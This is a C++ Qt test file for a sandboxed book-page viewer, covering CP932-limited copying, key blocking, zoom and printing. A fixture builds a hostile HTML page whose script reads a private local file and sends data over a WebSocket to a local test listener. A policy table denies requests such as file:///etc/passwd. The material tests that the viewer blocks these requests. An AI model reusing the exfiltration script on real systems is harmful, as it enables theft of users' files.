// The page view: blank page and navigation, its own context menu, the Ctrl
// block (neither reaching into the dialogs the view opens), and the copy of
// plain text limited to 600 bytes of CP932 text; the counting and cutting of
// that limit on their own; pages shown as content only (no script, nothing
// reached outside the page file) with the view's own select all, anchors and
// printing still at work, and printing that says what went wrong.
#include <QClipboard>
#include <QDialog>
#include <QImage>
#include <QLineEdit>
#include <QPageSetupDialog>
#include <QRegularExpression>
#include <QJsonDocument>
#include <QJsonObject>
#include <QMenu>
#include <QMimeData>
#include <QSignalSpy>
#include <QTcpServer>
#include <QTcpSocket>
#include <QTemporaryDir>
#include <QWebEnginePage>
#include <QWebEngineSettings>
#include <QWebEngineView>

#include "guitest.h"
#include "ui/view/bookview.h"
#include "ui/view/limitedcopy.h"
#include "ui/view/safepage.h"

using namespace tevarin;

namespace {

const QChar kKan(0x6F22);  // 漢: two bytes in CP932

QString Repeat(QChar c, int n) { return QString(n, c); }

// A listener on this machine that counts every connection made to it.
struct Listener {
  QTcpServer server;
  int connections = 0;
  Listener() {
    server.listen(QHostAddress::LocalHost);
    QObject::connect(&server, &QTcpServer::newConnection, [this] {
      while (QTcpSocket* s = server.nextPendingConnection()) {
        ++connections;
        s->close();
        s->deleteLater();
      }
    });
  }
  QString Url(const QString& scheme, const QString& path) const {
    return QStringLiteral("%1://127.0.0.1:%2/%3").arg(scheme).arg(server.serverPort()).arg(path);
  }
};

// A page as a stored page of a collection might carry it: script that marks
// the document, reads a private file and sends it out over a socket, a local
// picture, frames, a style sheet, a refresh to elsewhere and outward links.
QByteArray HostilePage(const Listener& l, const QString& secretFile, const QString& secretPicture) {
  const QString secretUrl = QUrl::fromLocalFile(secretFile).toString();
  const QString page = QStringLiteral(
      "<!DOCTYPE html><html><head><meta charset=\"utf-8\">"
      "<meta http-equiv=\"refresh\" content=\"0;url=%1\">"
      "<link rel=\"stylesheet\" href=\"%2\">"
      "<script>document.documentElement.setAttribute('data-ran', 'yes');"
      "try { var x = new XMLHttpRequest(); x.open('GET', '%3', false); x.send();"
      "  document.documentElement.setAttribute('data-secret', x.responseText); } catch (e) {}"
      "try { var w = new WebSocket('%4'); w.onopen = function () { w.send('secret'); }; } catch (e) {}"
      "</script></head><body>"
      "<p id=\"text\">本文の頁</p>"
      "<img id=\"local\" src=\"%5\"><img id=\"remote\" src=\"%6\">"
      "<iframe src=\"%7\"></iframe><iframe src=\"%3\"></iframe>"
      "<a id=\"out\" href=\"%8\">外</a> <a id=\"outfile\" href=\"%3\">外</a>"
      "<img src=\"none\" onerror=\"document.documentElement.setAttribute('data-ran', 'yes')\">"
      "</body></html>")
      .arg(l.Url(QStringLiteral("http"), QStringLiteral("refresh")),
           l.Url(QStringLiteral("http"), QStringLiteral("style.css")), secretUrl,
           l.Url(QStringLiteral("ws"), QStringLiteral("socket")),
           QUrl::fromLocalFile(secretPicture).toString(),
           l.Url(QStringLiteral("http"), QStringLiteral("picture.png")),
           l.Url(QStringLiteral("http"), QStringLiteral("frame")),
           l.Url(QStringLiteral("http"), QStringLiteral("link")));
  return page.toUtf8();
}

// Runs one of the program's own scripts on the page and waits for its answer.
QVariant RunProgramScript(CSafePage* page, const QString& script) {
  QVariant result;
  bool done = false;
  page->RunProgramScript(script, [&](const QVariant& v) {
    result = v;
    done = true;
  });
  QElapsedTimer t;
  t.start();
  while (!done && t.elapsed() < 10000) QTest::qWait(10);
  return result;
}

}  // namespace

class ViewTest : public QObject {
  Q_OBJECT

  QTemporaryDir m_dir;
  CBookView* m_view = nullptr;
  QWidget* m_window = nullptr;

  // Writes a page holding exactly text in its body and shows it.
  QString ShowPage(const QString& name, const QString& text, const QString& anchor = QString()) {
    const QString path = m_dir.filePath(name);
    QFile f(path);
    if (!f.open(QIODevice::WriteOnly)) return QString();
    f.write("<!DOCTYPE html><html><head><meta charset=\"utf-8\"></head><body>");
    f.write(text.toUtf8());
    f.write("<a name=\"0001\"></a></body></html>");
    f.close();
    QSignalSpy loaded(m_view, &QWebEngineView::loadFinished);
    m_view->Navigate(anchor.isEmpty() ? path : path + QLatin1Char('#') + anchor);
    if (!loaded.wait(20000)) return QString();
    return path;
  }

  // The widget inside the view that receives the browser's input.
  QWidget* Inner() const { return m_view->focusProxy() ? m_view->focusProxy() : m_view; }

  // Selects the whole page and waits until the browser reports it.
  bool SelectAllOnPage(const QString& expected) {
    QSignalSpy changed(m_view->page(), &QWebEnginePage::selectionChanged);
    m_view->SelectAll();
    for (int i = 0; i < 10 && m_view->page()->selectedText() != expected; ++i) changed.wait(5000);
    return m_view->page()->selectedText() == expected;
  }

  // Runs the limited copy and returns the clipboard's data afterwards.
  const QMimeData* CopyAndRead(bool expectBrowserCopy) {
    QClipboard* cb = QApplication::clipboard();
    cb->clear();
    QSignalSpy changed(cb, &QClipboard::dataChanged);
    m_view->LimitedCopy();
    if (expectBrowserCopy && changed.isEmpty()) changed.wait(10000);
    return cb->mimeData();
  }

 private slots:
  void initTestCase() {
    QVERIFY(m_dir.isValid());
    m_window = new QWidget;
    m_window->resize(800, 600);
    m_view = new CBookView(m_window);
    m_view->resize(800, 600);
    m_window->show();
    QVERIFY(QTest::qWaitForWindowExposed(m_window));
  }
  void cleanupTestCase() { delete m_window; }

  void countsCp932Bytes() {
    QCOMPARE(Cp932Length(QStringLiteral("abc")), 3);
    QCOMPARE(Cp932Length(Repeat(kKan, 3)), 6);
    QCOMPARE(Cp932Length(QStringLiteral("ｱｲ")), 2);          // half-width katakana: one byte
    QCOMPARE(Cp932Length(QStringLiteral("あ\n")), 3);
    QCOMPARE(Cp932CharBytes(0x4E7E), 2);                      // 乾, in CP932
    QCOMPARE(Cp932CharBytes(0x4E7F), 2);                      // 乿: no CP932 form, counted 2
    QCOMPARE(Cp932Length(QString::fromUcs4(U"\U00020000\U0002A6D6")), 4);  // beyond the BMP
    QCOMPARE(Cp932Length(QString()), 0);
  }

  void cutsBetweenCharacters() {
    // 600 bytes fit; 601 are cut.
    QCOMPARE(CutToCp932Bytes(Repeat(kKan, 300)), Repeat(kKan, 300));
    QCOMPARE(CutToCp932Bytes(Repeat(kKan, 301)), Repeat(kKan, 300));
    // One byte before the double-byte characters: byte 600 would be the
    // first half of a character, so the cut ends one byte early.
    const QString odd = QStringLiteral("a") + Repeat(kKan, 300);
    QCOMPARE(Cp932Length(odd), 601);
    QCOMPARE(CutToCp932Bytes(odd), QStringLiteral("a") + Repeat(kKan, 299));
    // A character beyond the BMP (a surrogate pair) is never split.
    const QString ext = Repeat(QLatin1Char('a'), 599) + QString::fromUcs4(U"\U00020000");
    QCOMPARE(CutToCp932Bytes(ext), Repeat(QLatin1Char('a'), 599));
    QCOMPARE(CutToCp932Bytes(QStringLiteral("abc"), 2), QStringLiteral("ab"));
  }

  void startsBlankAndShowsFilesWithAnchors() {
    CBookView fresh;
    QCOMPARE(fresh.CurrentLocation(), QStringLiteral("about:blank"));
    QVERIFY(!fresh.PageShown());

    const QString path = ShowPage(QStringLiteral("windows1.html"), QStringLiteral("頁"), QStringLiteral("0001"));
    QVERIFY(!path.isEmpty());
    QVERIFY(m_view->PageShown());
    const QUrl url(m_view->CurrentLocation());
    QCOMPARE(url.toLocalFile(), path);
    QCOMPARE(url.fragment(), QStringLiteral("0001"));
    // The same file at another anchor.
    m_view->Navigate(path + QStringLiteral("#0000"));
    QCOMPARE(QUrl(m_view->CurrentLocation()).fragment(), QStringLiteral("0000"));
  }

  void contextMenuOnlyOnAShownPage() {
    CBookView blank(m_window);
    blank.resize(200, 200);
    blank.show();
    QSignalSpy blankMenus(&blank, &CBookView::contextMenuShown);
    QTest::mousePress(&blank, Qt::RightButton, {}, QPoint(20, 20));
    QCOMPARE(blankMenus.count(), 0);
    QVERIFY(!blank.ContextMenu()->isVisible());
    blank.hide();

    QVERIFY(!ShowPage(QStringLiteral("menu.html"), QStringLiteral("本文")).isEmpty());
    QSignalSpy menus(m_view, &CBookView::contextMenuShown);
    QTest::mousePress(Inner(), Qt::RightButton, {}, QPoint(30, 40));
    QCOMPARE(menus.count(), 1);
    QMenu* menu = m_view->ContextMenu();
    QTRY_VERIFY(menu->isVisible());
    const QList<QAction*> items = menu->actions();
    QCOMPARE(items.size(), 3);
    QCOMPARE(items[0]->text(), QStringLiteral("コピー(300字以内に制限しています。)"));
    QCOMPARE(items[1]->text(), QStringLiteral("すべて選択。"));
    QCOMPARE(items[2]->text(), QStringLiteral("出典付きでコピー"));
    QVERIFY(items[0]->isEnabled() && items[1]->isEnabled());
    // A view nobody told the source of its pages has nothing to cite.
    QVERIFY(!items[2]->isEnabled());
    menu->hide();
  }

  void ctrlKeyIsBlockedWithOneMessagePerPress() {
    QVERIFY(!ShowPage(QStringLiteral("ctrl.html"), QStringLiteral("本文")).isEmpty());
    MessageRecorder messages;
    // The message comes once the key is let go (a zoom key may follow it).
    QTest::keyPress(Inner(), Qt::Key_Control);
    QVERIFY(messages.texts.isEmpty());
    // The key held down repeats without further messages.
    QKeyEvent repeat(QEvent::KeyPress, Qt::Key_Control, Qt::ControlModifier, QString(), true);
    QApplication::sendEvent(Inner(), &repeat);
    QTest::keyRelease(Inner(), Qt::Key_Control);
    QCOMPARE(messages.texts, QStringList{QStringLiteral("マウスの右ボタンでコピーして下さい。")});
    // The combinations never reach the browser.
    using A = CBookView::KeyAction;
    QCOMPARE(CBookView::ActionForKey(Qt::Key_C, Qt::ControlModifier, false), A::Block);
    QCOMPARE(CBookView::ActionForKey(Qt::Key_A, Qt::ControlModifier | Qt::ShiftModifier, false), A::Block);
    QCOMPARE(CBookView::ActionForKey(Qt::Key_F3, Qt::NoModifier, false), A::Pass);
    QCOMPARE(CBookView::ActionForKey(Qt::Key_C, Qt::NoModifier, false), A::Pass);
    QKeyEvent ctrlA(QEvent::KeyPress, Qt::Key_A, Qt::ControlModifier);
    QVERIFY(m_view->eventFilter(Inner(), &ctrlA));
    // Keys outside the view are not its business.
    QWidget elsewhere;
    QVERIFY(!m_view->eventFilter(&elsewhere, &ctrlA));
    QCOMPARE(messages.texts.size(), 1);
    // A combination typed with the Ctrl press is told at once, and the
    // release adds nothing.
    QTest::keyPress(Inner(), Qt::Key_Control);
    QTest::keyPress(Inner(), Qt::Key_C, Qt::ControlModifier);
    QCOMPARE(messages.texts.size(), 2);
    QTest::keyRelease(Inner(), Qt::Key_C, Qt::ControlModifier);
    QTest::keyRelease(Inner(), Qt::Key_Control);
    QCOMPARE(messages.texts.size(), 2);
  }

  void zoomKeysAndTheWheelPassTheCtrlBlock() {
    QVERIFY(!ShowPage(QStringLiteral("zoom.html"), QStringLiteral("本文")).isEmpty());
    using A = CBookView::KeyAction;
    // Exactly the zoom keys go through, on the main keys or the keypad.
    const struct {
      int key;
      Qt::KeyboardModifiers modifiers;
      A action;
    } keys[] = {
        {Qt::Key_Plus, Qt::ControlModifier, A::Pass},
        {Qt::Key_Plus, Qt::ControlModifier | Qt::ShiftModifier, A::Pass},
        {Qt::Key_Plus, Qt::ControlModifier | Qt::KeypadModifier, A::Pass},
        {Qt::Key_Equal, Qt::ControlModifier, A::Pass},
        {Qt::Key_Minus, Qt::ControlModifier, A::Pass},
        {Qt::Key_0, Qt::ControlModifier, A::Pass},
        {Qt::Key_Plus, Qt::ControlModifier | Qt::AltModifier, A::Block},
        {Qt::Key_1, Qt::ControlModifier, A::Block},
        {Qt::Key_S, Qt::ControlModifier, A::Block},
    };
    for (const auto& k : keys)
      QVERIFY2(CBookView::ActionForKey(k.key, k.modifiers, false) == k.action, qPrintable(QString::number(k.key)));

    MessageRecorder messages;
    QSignalSpy zoomed(m_view, &CBookView::textZoomChanged);
    m_view->ZoomReset();
    // Ctrl held with the wheel: a step per notch, and no message.
    QTest::keyPress(Inner(), Qt::Key_Control);
    auto wheel = [this](int delta) {
      QWheelEvent e(QPointF(20, 20), Inner()->mapToGlobal(QPointF(20, 20)), QPoint(), QPoint(0, delta), Qt::NoButton,
                    Qt::ControlModifier, Qt::NoScrollPhase, false);
      return m_view->eventFilter(Inner(), &e);
    };
    QVERIFY(wheel(120));
    QCOMPARE(m_view->TextZoom(), 1.1);
    QVERIFY(wheel(60));  // half a notch: nothing yet
    QCOMPARE(m_view->TextZoom(), 1.1);
    QVERIFY(wheel(60));
    QCOMPARE(m_view->TextZoom(), 1.25);
    QVERIFY(wheel(-240));
    QCOMPARE(m_view->TextZoom(), 1.0);
    QTest::keyRelease(Inner(), Qt::Key_Control);
    QVERIFY(messages.texts.isEmpty());
    // The wheel alone scrolls the page as before.
    QWheelEvent plain(QPointF(20, 20), Inner()->mapToGlobal(QPointF(20, 20)), QPoint(), QPoint(0, 120), Qt::NoButton,
                      Qt::NoModifier, Qt::NoScrollPhase, false);
    QVERIFY(!m_view->eventFilter(Inner(), &plain));
    // The steps end at either side.
    m_view->SetTextZoom(100.0);
    QCOMPARE(m_view->TextZoom(), CBookView::ZoomSteps().last());
    QVERIFY(!m_view->CanZoomIn());
    m_view->ZoomIn();
    QCOMPARE(m_view->TextZoom(), CBookView::ZoomSteps().last());
    m_view->SetTextZoom(0.01);
    QCOMPARE(m_view->TextZoom(), CBookView::ZoomSteps().first());
    m_view->SetTextZoom(1.3);  // the nearest step
    QCOMPARE(m_view->TextZoom(), 1.25);
    m_view->ZoomReset();
    QCOMPARE(m_view->zoomFactor(), 1.0);
    QVERIFY(zoomed.count() > 0);
  }

  void copyOfAtMost600BytesIsItsPlainText() {
    const QString text = Repeat(kKan, 300);
    QVERIFY(!ShowPage(QStringLiteral("copy600.html"), QStringLiteral("<b>") + text + QStringLiteral("</b>")).isEmpty());
    QVERIFY(SelectAllOnPage(text));
    const QMimeData* data = CopyAndRead(false);
    QVERIFY(data);
    QCOMPARE(data->text(), text);
    // The page's markup stays behind.
    QVERIFY(!data->hasHtml());
  }

  void dialogsOfTheViewKeepTheirKeysAndMouse() {
    QVERIFY(!ShowPage(QStringLiteral("dialogs.html"), QStringLiteral("本文")).isEmpty());
    MessageRecorder messages;
    QSignalSpy menus(m_view, &CBookView::contextMenuShown);
    // A dialog the view opens (as print, preview and page setup are opened)
    // is a window of its own, though the view is its parent.
    QDialog dialog(m_view);
    auto* edit = new QLineEdit(&dialog);
    QPageSetupDialog setup(m_view->Printer(), m_view);
    dialog.show();
    for (QWidget* w : {static_cast<QWidget*>(edit), static_cast<QWidget*>(&dialog), static_cast<QWidget*>(&setup)}) {
      QKeyEvent ctrl(QEvent::KeyPress, Qt::Key_Control, Qt::ControlModifier);
      QKeyEvent ctrlC(QEvent::ShortcutOverride, Qt::Key_C, Qt::ControlModifier);
      QMouseEvent right(QEvent::MouseButtonPress, QPointF(5, 5), w->mapToGlobal(QPointF(5, 5)), Qt::RightButton,
                        Qt::RightButton, Qt::NoModifier);
      QVERIFY(!m_view->eventFilter(w, &ctrl));
      QVERIFY(!m_view->eventFilter(w, &ctrlC));
      QVERIFY(!m_view->eventFilter(w, &right));
    }
    // Typed for real: the edit gets Ctrl+A, and no message is shown.
    edit->setText(QStringLiteral("abc"));
    edit->setFocus();
    QTest::keyClick(edit, Qt::Key_A, Qt::ControlModifier);
    QCOMPARE(edit->selectedText(), QStringLiteral("abc"));
    QTest::mousePress(edit, Qt::RightButton, {}, QPoint(5, 5));
    QCOMPARE(menus.count(), 0);
    QVERIFY(messages.texts.isEmpty());
    // The page itself is still the view's.
    QKeyEvent ctrl(QEvent::KeyPress, Qt::Key_Control, Qt::ControlModifier);
    QVERIFY(m_view->eventFilter(Inner(), &ctrl));
    QKeyEvent ctrlUp(QEvent::KeyRelease, Qt::Key_Control, Qt::NoModifier);
    m_view->eventFilter(Inner(), &ctrlUp);
    QCOMPARE(messages.texts.size(), 1);
  }

  void printingSaysWhatWentWrong() {
    QVERIFY(!ShowPage(QStringLiteral("print.html"), QStringLiteral("本文")).isEmpty());
    QPrinter* printer = m_view->Printer();
    MessageRecorder messages;
    // No printer: the printer writes PDF and has no file to write it to.
    printer->setOutputFormat(QPrinter::PdfFormat);
    printer->setOutputFileName(QString());
    QSignalSpy printed(m_view, &QWebEngineView::printFinished);
    m_view->PrintNow();
    QCOMPARE(messages.texts, QStringList{QStringLiteral("印刷できるプリンタがありません。")});
    QTest::qWait(200);
    QVERIFY(printed.isEmpty());

    // A file that exists: asked first; "no" leaves it as it was.
    QTemporaryDir out;
    const QString pdf = out.filePath(QStringLiteral("page.pdf"));
    {
      QFile f(pdf);
      QVERIFY(f.open(QIODevice::WriteOnly));
      f.write("old");
    }
    printer->setOutputFileName(pdf);
    {
      QuestionRecorder no(false);
      m_view->PrintNow();
      QCOMPARE(no.texts, QStringList{QStringLiteral("ファイル「%1」は既にあります。上書きしますか？").arg(pdf)});
      QTest::qWait(200);
      QVERIFY(printed.isEmpty());
      QFile f(pdf);
      QVERIFY(f.open(QIODevice::ReadOnly));
      QCOMPARE(f.readAll(), QByteArray("old"));
    }
    {
      QuestionRecorder yes(true);
      m_view->PrintNow();
      QCOMPARE(yes.texts.size(), 1);
      QVERIFY(printed.wait(20000));
      QVERIFY(printed.takeFirst().first().toBool());
      QFile f(pdf);
      QVERIFY(f.open(QIODevice::ReadOnly));
      QVERIFY(f.readAll().startsWith("%PDF"));
    }
    // A file that cannot be written: said once printing has failed.
    const QString nowhere = out.filePath(QStringLiteral("no/such/folder/page.pdf"));
    printer->setOutputFileName(nowhere);
    messages.texts.clear();
    m_view->PrintNow();
    QVERIFY(printed.wait(20000));
    QVERIFY(!printed.takeFirst().first().toBool());
    QCOMPARE(messages.texts, QStringList{QStringLiteral("頁をファイル「%1」に印刷できませんでした。").arg(nowhere)});
    printer->setOutputFileName(QString());
  }

  void printingFollowsTheTextSize() {
    QString text;
    for (int i = 0; i < 40; ++i) text += QStringLiteral("<p>學而時習之不亦說乎有朋自遠方來不亦樂乎</p>");
    QVERIFY(!ShowPage(QStringLiteral("zoomprint.html"), text).isEmpty());
    QPrinter* printer = m_view->Printer();
    printer->setOutputFormat(QPrinter::PdfFormat);
    QTemporaryDir out;
    QSignalSpy printed(m_view, &QWebEngineView::printFinished);
    // The pages of the printout at a text size.
    auto printedPages = [&](double zoom) {
      m_view->SetTextZoom(zoom);
      QTest::qWait(300);  // the print style is set on the page
      const QString pdf = out.filePath(QStringLiteral("zoom%1.pdf").arg(zoom));
      printer->setOutputFileName(pdf);
      m_view->PrintNow();
      if (!printed.wait(20000)) return -1;
      QFile f(pdf);
      if (!f.open(QIODevice::ReadOnly)) return -1;
      // The page objects of the file ("/Type /Page", not "/Pages").
      return static_cast<int>(QString::fromLatin1(f.readAll())
                                  .count(QRegularExpression(QStringLiteral("/Type\\s*/Page(?!s)"))));
    };
    const int normal = printedPages(1.0), large = printedPages(2.0);
    m_view->ZoomReset();
    printer->setOutputFileName(QString());
    QVERIFY2(normal > 0 && large > normal, qPrintable(QStringLiteral("%1 %2").arg(normal).arg(large)));
  }

  void hostilePageShowsAsTextAndReachesNothing() {
    QTemporaryDir outside;
    const QString secretFile = outside.filePath(QStringLiteral("private.txt"));
    const QString secretPicture = outside.filePath(QStringLiteral("private.png"));
    {
      QFile f(secretFile);
      QVERIFY(f.open(QIODevice::WriteOnly));
      f.write("private text");
    }
    QImage picture(16, 16, QImage::Format_RGB32);
    picture.fill(Qt::red);
    QVERIFY(picture.save(secretPicture));
    Listener listener;
    QVERIFY(listener.server.isListening());
    const QString path = m_dir.filePath(QStringLiteral("windows.html"));
    {
      QFile f(path);
      QVERIFY(f.open(QIODevice::WriteOnly));
      f.write(HostilePage(listener, secretFile, secretPicture));
    }

    // In a browser view with the browser's defaults the page reaches the
    // listener: the page and the listener are as they should be.
    {
      QWebEngineView plain;
      plain.resize(400, 300);
      plain.load(QUrl::fromLocalFile(path));
      QTRY_VERIFY_WITH_TIMEOUT(listener.connections > 0, 20000);
    }
    QTest::qWait(500);  // connections still on their way from the plain view
    listener.connections = 0;

    QSignalSpy loaded(m_view, &QWebEngineView::loadFinished);
    m_view->Navigate(path);
    QVERIFY(loaded.wait(20000));
    // Time for a refresh, a socket or a late request to show up.
    QTest::qWait(2000);
    QCOMPARE(listener.connections, 0);
    QCOMPARE(QUrl(m_view->CurrentLocation()).toLocalFile(), path);
    QCOMPARE(m_view->page()->url().toLocalFile(), path);
    const QJsonObject state = QJsonDocument::fromJson(
        RunProgramScript(m_view->SafePage(), QStringLiteral(
            "JSON.stringify({ran: document.documentElement.getAttribute('data-ran'),"
            " secret: document.documentElement.getAttribute('data-secret'),"
            " picture: document.getElementById('local').naturalWidth,"
            " text: document.getElementById('text').textContent})")).toString().toUtf8()).object();
    QCOMPARE(state.value(QStringLiteral("text")).toString(), QStringLiteral("本文の頁"));
    QVERIFY(state.value(QStringLiteral("ran")).isNull());
    QVERIFY(state.value(QStringLiteral("secret")).isNull());
    QCOMPARE(state.value(QStringLiteral("picture")).toInt(), 0);

    // Links out of the page open nothing.
    for (const char* link : {"out", "outfile"}) {
      RunProgramScript(m_view->SafePage(),
                       QStringLiteral("document.getElementById('%1').click(); true").arg(QLatin1String(link)));
      QTest::qWait(500);
      QCOMPARE(m_view->page()->url().toLocalFile(), path);
    }
    QCOMPARE(listener.connections, 0);

    // The request filter on its own: with page script and local access
    // turned back on, the script runs but its requests reach nothing.
    CBookView loose;
    loose.resize(400, 300);
    QWebEngineSettings* settings = loose.page()->settings();
    for (auto attribute : {QWebEngineSettings::JavascriptEnabled, QWebEngineSettings::LocalContentCanAccessFileUrls,
                           QWebEngineSettings::LocalContentCanAccessRemoteUrls})
      settings->setAttribute(attribute, true);
    QSignalSpy looseLoaded(&loose, &QWebEngineView::loadFinished);
    loose.Navigate(path);
    QVERIFY(looseLoaded.wait(20000));
    QTest::qWait(2000);
    QCOMPARE(listener.connections, 0);
    const QJsonObject looseState = QJsonDocument::fromJson(
        RunProgramScript(loose.SafePage(), QStringLiteral(
            "JSON.stringify({ran: document.documentElement.getAttribute('data-ran'),"
            " secret: document.documentElement.getAttribute('data-secret'),"
            " picture: document.getElementById('local').naturalWidth})")).toString().toUtf8()).object();
    QCOMPARE(looseState.value(QStringLiteral("ran")).toString(), QStringLiteral("yes"));
    QVERIFY(looseState.value(QStringLiteral("secret")).toString().isEmpty());
    QCOMPARE(looseState.value(QStringLiteral("picture")).toInt(), 0);
  }

  void pagesGoOnlyWhereTheProgramSendsThem() {
    const QString shown = ShowPage(QStringLiteral("policy.html"), QStringLiteral("本文"));
    QVERIFY(!shown.isEmpty());
    const QString other = m_dir.filePath(QStringLiteral("other.html"));
    const QUrl file = QUrl::fromLocalFile(shown);
    QUrl anchored = file;
    anchored.setFragment(QStringLiteral("0003"));
    CSafePage* page = m_view->SafePage();

    // Requests: the program's resources, inline data and the page file only.
    struct Load {
      QString url;
      bool allowed;
    } loads[] = {
        {anchored.toString(), true},
        {QUrl::fromLocalFile(m_dir.path() + QStringLiteral("/x/../policy.html")).toString(), true},
        {QStringLiteral("qrc:/res/INPUT.HTM"), true},
        {QStringLiteral("data:image/png;base64,AAAA"), true},
        {QStringLiteral("about:blank"), true},
        {QUrl::fromLocalFile(other).toString(), false},
        {QStringLiteral("file:///etc/passwd"), false},
        {QStringLiteral("http://127.0.0.1/"), false},
        {QStringLiteral("ws://127.0.0.1/"), false},
        {QStringLiteral("ftp://example.org/policy.html"), false},
    };
    for (const Load& l : loads) QVERIFY2(page->Allows(QUrl(l.url)) == l.allowed, qPrintable(l.url));

    // Navigations: the program's own loads and history, anchors of the
    // document shown; no frames, redirections, forms or links elsewhere.
    using P = QWebEnginePage;
    struct Go {
      QUrl url;
      P::NavigationType type;
      bool mainFrame, accepted;
    } goes[] = {
        {anchored, P::NavigationTypeTyped, true, true},
        {anchored, P::NavigationTypeLinkClicked, true, true},
        {file, P::NavigationTypeBackForward, true, true},
        {QUrl(QStringLiteral("about:blank")), P::NavigationTypeTyped, true, true},
        {QUrl(QStringLiteral("about:blank")), P::NavigationTypeOther, false, true},
        {file, P::NavigationTypeRedirect, true, false},
        {file, P::NavigationTypeFormSubmitted, true, false},
        {file, P::NavigationTypeOther, true, false},
        {file, P::NavigationTypeTyped, false, false},
        {QUrl::fromLocalFile(other), P::NavigationTypeTyped, true, false},
        {QUrl(QStringLiteral("http://127.0.0.1/")), P::NavigationTypeLinkClicked, true, false},
    };
    for (const Go& g : goes)
      QVERIFY2(page->AcceptsNavigation(g.url, g.type, g.mainFrame) == g.accepted,
               qPrintable(g.url.toString() + QStringLiteral(" type %1").arg(int(g.type))));
    // Once the program shows the other file, it is one of its page files, but
    // a link from this page still does not lead there.
    QVERIFY(!ShowPage(QStringLiteral("other.html"), QStringLiteral("別")).isEmpty());
    QVERIFY(page->Allows(QUrl::fromLocalFile(other)));
    QVERIFY(!page->AcceptsNavigation(file, P::NavigationTypeLinkClicked, true));
  }

  void anchorsAndPrintingWorkWithoutPageScript() {
    // Hit anchors: the next hit far down the page, then back to the first.
    const QString tall = QStringLiteral("<a name=\"0000\"></a><div style=\"height:4000px\">上</div>");
    const QString path = ShowPage(QStringLiteral("anchors.html"), tall);
    QVERIFY(!path.isEmpty());
    QCOMPARE(m_view->page()->scrollPosition().y(), 0.0);
    m_view->Navigate(path + QStringLiteral("#0001"));
    QTRY_VERIFY_WITH_TIMEOUT(m_view->page()->scrollPosition().y() > 1000, 10000);
    m_view->Navigate(path + QStringLiteral("#0000"));
    QTRY_VERIFY_WITH_TIMEOUT(m_view->page()->scrollPosition().y() < 10, 10000);

    QTemporaryDir out;
    const QString pdf = out.filePath(QStringLiteral("page.pdf"));
    m_view->Printer()->setOutputFormat(QPrinter::PdfFormat);
    m_view->Printer()->setOutputFileName(pdf);
    QSignalSpy printed(m_view, &QWebEngineView::printFinished);
    m_view->PrintNow();
    QVERIFY(printed.wait(20000));
    QVERIFY(printed.first().first().toBool());
    QVERIFY(QFileInfo(pdf).size() > 0);
    m_view->Printer()->setOutputFileName(QString());
  }

  void longerCopyIsCutToPlainText() {
    struct Case {
      QString page, expected;
    } cases[] = {
        {Repeat(kKan, 301), Repeat(kKan, 300)},
        {Repeat(kKan, 1000), Repeat(kKan, 300)},
        {QStringLiteral("a") + Repeat(kKan, 300), QStringLiteral("a") + Repeat(kKan, 299)},
    };
    int n = 0;
    for (const Case& c : cases) {
      QVERIFY(!ShowPage(QStringLiteral("long%1.html").arg(n++), c.page).isEmpty());
      QVERIFY(SelectAllOnPage(c.page));
      const QMimeData* data = CopyAndRead(false);
      QVERIFY(data);
      QCOMPARE(data->text(), c.expected);
      QVERIFY(!data->hasHtml());
      QVERIFY(Cp932Length(data->text()) <= 600);
    }
  }
};

TEVARIN_GUI_TEST_MAIN(ViewTest)
#include "gui_view_test.moc"
